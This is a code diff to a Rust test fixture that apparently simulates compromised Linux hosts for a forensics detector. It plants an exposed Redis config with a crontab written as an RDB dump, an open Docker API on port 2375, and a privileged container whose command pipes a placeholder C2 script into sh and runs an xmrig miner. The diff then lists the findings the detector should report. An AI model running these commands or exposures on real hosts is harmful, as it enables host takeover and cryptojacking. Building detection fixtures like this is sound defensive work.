@@ -224,6 +224,9 @@ printf '\177ELF\002\001\001\000\000\000\000\000\000\000\000\000 python3\n' > %{b
 
 /// The clean host: accounts with shadow's backups, sshd, cron, a package database owning
 /// `ps` and `ls`, an administrator's logins in the logs and in wtmp/lastlog.
+/// The exposure-relevant directives of the redis.conf the packages ship (Redis 7's default).
+const REDIS_STOCK: &str = "bind 127.0.0.1 -::1\nprotected-mode yes\nport 6379\ndaemonize no\ndir /var/lib/redis\ndbfilename dump.rdb\n";
+
 fn clean(d: Distro, root: &Path, work: &Path) {
     for dir in ["usr/bin", "usr/sbin", "usr/lib", "usr/lib64"] {
         std::fs::create_dir_all(root.join(dir)).unwrap();
@@ -244,6 +247,27 @@ fn clean(d: Distro, root: &Path, work: &Path) {
         "www/wwwroot/site/.user.ini",
         "open_basedir=/www/wwwroot/site/:/tmp/\n",
     );
+    // Stock service configurations (the directives that decide exposure): Redis on loopback
+    // where the rpm distributions put redis.conf; on Ubuntu, Docker's units as docker.io
+    // ships them and an ordinary web container.
+    match d {
+        Distro::Centos7 => write(root, "etc/redis.conf", REDIS_STOCK),
+        Distro::Rocky9 => write(root, "etc/redis/redis.conf", REDIS_STOCK),
+        Distro::Ubuntu => {
+            write(root, "usr/lib/systemd/system/docker.service", "[Service]\nType=notify\nEnvironmentFile=-/etc/default/docker\nExecStart=/usr/sbin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock $DOCKER_OPTS\n");
+            write(root, "usr/lib/systemd/system/docker.socket", "[Socket]\nListenStream=/run/docker.sock\nSocketMode=0660\nSocketUser=root\nSocketGroup=docker\n");
+            write(
+                root,
+                "var/lib/docker/containers/5e0c1a/config.v2.json",
+                r#"{"ID":"5e0c1a","Name":"/web","Config":{"Image":"nginx:1.25","Entrypoint":["/docker-entrypoint.sh"],"Cmd":["nginx","-g","daemon off;"]}}"#,
+            );
+            write(
+                root,
+                "var/lib/docker/containers/5e0c1a/hostconfig.json",
+                r#"{"Binds":["/srv/www:/usr/share/nginx/html:ro"],"Privileged":false,"NetworkMode":"bridge","RestartPolicy":{"Name":"unless-stopped"}}"#,
+            );
+        }
+    }
     for (link, to) in [
         ("bin", "usr/bin"),
         ("sbin", "usr/sbin"),
@@ -739,11 +763,54 @@ fn plant(d: Distro, root: &Path) {
     } else {
         "var/spool/cron/crontabs/root"
     };
-    write(
-        root,
-        spool,
-        format!("* * * * * {HIDDEN}/upd >/dev/null 2>&1\n@reboot {HIDDEN}/xmrig --config={HIDDEN}/config.json\n"),
-    );
+    let user_cron =
+        format!("* * * * * {HIDDEN}/upd >/dev/null 2>&1\n@reboot {HIDDEN}/xmrig --config={HIDDEN}/config.json\n");
+    if d.rpm() {
+        // On the rpm hosts the way in was Redis, opened to the network with protected mode
+        // off (`CONFIG SET dir /var/spool/cron`, `dbfilename root`, `SAVE`): root's crontab is
+        // an RDB dump holding the cron lines between binary framing; cronie runs them.
+        let conf = if d == Distro::Centos7 {
+            "etc/redis.conf"
+        } else {
+            "etc/redis/redis.conf"
+        };
+        write(
+            root,
+            conf,
+            REDIS_STOCK
+                .replace("bind 127.0.0.1 -::1", "bind 0.0.0.0")
+                .replace("protected-mode yes", "protected-mode no"),
+        );
+        let value = format!("\n\n{user_cron}\n\n");
+        write(
+            root,
+            spool,
+            ferret_testkit::redis::rdb_dump(&[(b"backup1", value.as_bytes())]),
+        );
+    } else {
+        write(root, spool, user_cron);
+        // On Ubuntu, the Docker Engine API opened on 2375 without TLS, and the container an
+        // attacker started through it: privileged, the host's / at /host, restarted always,
+        // running a miner (TeamTNT, Kinsing).
+        write(
+            root,
+            "etc/systemd/system/docker.service.d/override.conf",
+            "[Service]\nExecStart=\nExecStart=/usr/sbin/dockerd -H fd:// -H tcp://0.0.0.0:2375 --containerd=/run/containerd/containerd.sock\n",
+        );
+        let dir = "var/lib/docker/containers/9f3b7a21c4d8";
+        write(
+            root,
+            &format!("{dir}/config.v2.json"),
+            format!(
+                r#"{{"ID":"9f3b7a21c4d8","Name":"/sleepy_kilby","Config":{{"Image":"alpine:3.19","Entrypoint":null,"Cmd":["chroot","/host","sh","-c","curl -fsSL http://{C2}/d.sh | sh; {HIDDEN}/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {WALLET}"]}},"MountPoints":{{"/host":{{"Source":"/","Destination":"/host","RW":true}}}}}}"#
+            ),
+        );
+        write(
+            root,
+            &format!("{dir}/hostconfig.json"),
+            r#"{"Binds":["/:/host"],"Privileged":true,"PidMode":"host","NetworkMode":"host","RestartPolicy":{"Name":"always","MaximumRetryCount":0}}"#,
+        );
+    }
     chmod(root, spool, 0o600);
 
     // ld.so.preload naming a hidden library (libprocesshider, as Kinsing/WatchDog use it).
@@ -1567,6 +1634,44 @@ fn expectations(d: Distro, wipe_auth: bool) -> Vec<Expect> {
         },
         High,
     ));
+    if d.rpm() {
+        let conf = if d == Distro::Centos7 {
+            "/etc/redis.conf"
+        } else {
+            "/etc/redis/redis.conf"
+        };
+        v.push(expect(
+            "Redis on 0.0.0.0 without password, protected mode off",
+            "exposure.redis-no-auth",
+            conf,
+            Critical,
+        ));
+        v.push(expect(
+            "root's crontab written by Redis (RDB dump)",
+            "persistence.redis-rdb-file",
+            spool,
+            Critical,
+        ));
+    } else {
+        v.push(expect(
+            "Docker API on tcp://0.0.0.0:2375 without TLS",
+            "exposure.docker-api",
+            "tcp://0.0.0.0:2375",
+            Critical,
+        ));
+        v.push(expect(
+            "privileged container running a miner",
+            "exposure.docker-malicious-container",
+            "sleepy_kilby",
+            Critical,
+        ));
+        v.push(expect(
+            "container with the host's / mounted, privileged",
+            "exposure.docker-container-escape",
+            "sleepy_kilby",
+            High,
+        ));
+    }
     v
 }
 
